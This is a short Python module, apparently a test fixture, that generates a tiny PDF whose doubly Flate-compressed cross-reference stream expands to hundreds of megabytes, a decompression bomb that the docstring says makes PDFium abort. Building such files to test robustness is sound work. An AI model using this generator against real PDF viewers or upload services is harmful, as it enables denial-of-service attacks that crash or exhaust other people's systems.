"""PDFs that are small until they are opened."""

import zlib
from functools import cache

MEGABYTE = bytes(1 << 20)


@cache  # it takes a second
def crashing_pdf(megabytes: int = 500) -> bytes:
    """A PDF of 1 KB whose table of objects expands to so many MB; PDFium aborts without them."""
    inner = zlib.compressobj(9)
    table = b"".join(inner.compress(MEGABYTE) for _ in range(megabytes)) + inner.flush()
    table = zlib.compress(table, 9)
    header = b"%PDF-1.5\n"
    entries = b"/Type/XRef/Size 2/W[1 2 1]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]"
    body = b"1 0 obj\n<<%b/Length %d>>\nstream\n%b\nendstream\nendobj\n" % (
        entries,
        len(table),
        table,
    )
    return b"%b%bstartxref\n%d\n%%%%EOF\n" % (header, body, len(header))
